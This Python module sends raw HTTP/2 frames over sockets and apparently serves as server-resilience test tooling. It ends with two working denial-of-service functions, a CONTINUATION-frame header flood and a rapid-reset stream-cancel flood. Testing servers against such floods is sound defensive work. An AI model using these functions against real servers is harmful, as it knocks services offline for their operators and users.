"""HTTP/2 over bare sockets: frames that no client library would send."""

import select
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags=0, stream=0, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes((kind, flags))
            + struct.pack(">I", stream) + payload)


def _integer(value, bits, first):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def header_block(headers):
    """HPACK without the tables: every name and value as it is."""
    block = b""
    for name, value in headers:
        name, value = name.encode(), value.encode()
        block += (b"\x00" + _integer(len(name), 7, 0) + name
                  + _integer(len(value), 7, 0) + value)
    return block


def request_block(path, authority="localhost", scheme="http", method="POST",
                  more=()):
    return header_block([(":method", method), (":scheme", scheme),
                         (":path", path), (":authority", authority), *more])


GRPC = (("te", "trailers"), ("content-type", "application/grpc"))


class Http2Connection:
    """Sends what it is told to, and keeps the frames that come back."""

    def __init__(self, address, tls=None, name=None, greet=True):
        """`tls` is an ssl.SSLContext that offers h2."""
        self.socket = socket.create_connection(address, timeout=20)
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname=name)
        self._buffer = b""
        self.frames = []  # (kind, flags, stream, payload)
        self.closed = False
        self.window = 65535        # that the peer grants to the connection
        self.stream_windows = {}   # and to streams, beyond the initial one
        self.initial_window = 65535
        if greet:
            self.send(PREFACE + frame(SETTINGS))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        """False when the peer has gone."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.closed = True
        return not self.closed

    def _parse(self):
        while len(self._buffer) >= 9:
            length = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + length:
                return
            kind, flags = self._buffer[3], self._buffer[4]
            stream = int.from_bytes(self._buffer[5:9], "big") & 0x7FFFFFFF
            payload = self._buffer[9:9 + length]
            self._buffer = self._buffer[9 + length:]
            self.frames.append((kind, flags, stream, payload))
            self._heed(kind, flags, stream, payload)

    def _heed(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if stream == 0:
                self.window += more
            else:
                self.stream_windows[stream] = (
                    self.stream_windows.get(stream, 0) + more)
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                number, value = struct.unpack(">HI", payload[at:at + 6])
                if number == 4:
                    self.initial_window = value

    def read(self, seconds):
        """Takes in what comes within so many seconds; stops at an end."""
        end = time.monotonic() + seconds
        while not self.closed:
            pending = getattr(self.socket, "pending", lambda: 0)()
            wait = max(0, end - time.monotonic())
            if not pending and not select.select([self.socket], [], [],
                                                 wait)[0]:
                return
            try:
                data = self.socket.recv(1 << 16)
            except OSError:
                data = b""
            self.closed = not data
            self._buffer += data
            self._parse()
            if time.monotonic() >= end:
                return

    def read_until(self, condition, seconds):
        end = time.monotonic() + seconds
        while not condition() and not self.closed:
            if time.monotonic() > end:
                break
            self.read(0.1)
        return condition()

    def acknowledge(self):
        self.read(0.2)
        self.send(frame(SETTINGS, ACK))

    def kinds(self):
        return [kind for kind, _, _, _ in self.frames]

    def ended(self, stream):
        """Whether that stream is over, in any way."""
        return self.closed or any(
            kind == GOAWAY or number == stream and
            (kind == RST_STREAM or kind in (HEADERS, DATA)
             and flags & END_STREAM)
            for kind, flags, number, _ in self.frames)

    def headers_of(self, stream):
        """The header blocks of a stream, one after the other, as sent."""
        return b"".join(payload for kind, _, number, payload in self.frames
                        if kind == HEADERS and number == stream)


def continuation_flood(connection, path, seconds, stop_after=64 << 20):
    """Header frames that never end. Returns the bytes that were taken.

    Many small headers are the worst for who keeps them. A peer that does not
    acknowledge settings is bound by none.
    """
    connection.send(frame(HEADERS, 0, 1, request_block(path)))
    block = header_block([("x", "y")] * 2500)
    more = frame(CONTINUATION, 0, 1, block) * 4
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end and sent < stop_after:
        if not connection.send(more):
            break
        sent += len(more)
        connection.read(0)
        if connection.closed:
            break
    return sent


def rapid_reset(connection, block, seconds, stop_after=100_000):
    """Opens streams and cancels them at once. Returns how many."""
    end = time.monotonic() + seconds
    stream = 1
    while time.monotonic() < end and stream // 2 < stop_after:
        data = b""
        for _ in range(50):
            data += (frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
                     + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
        if not connection.send(data):
            break
        connection.read(0)
        if connection.closed:
            break
    return stream // 2
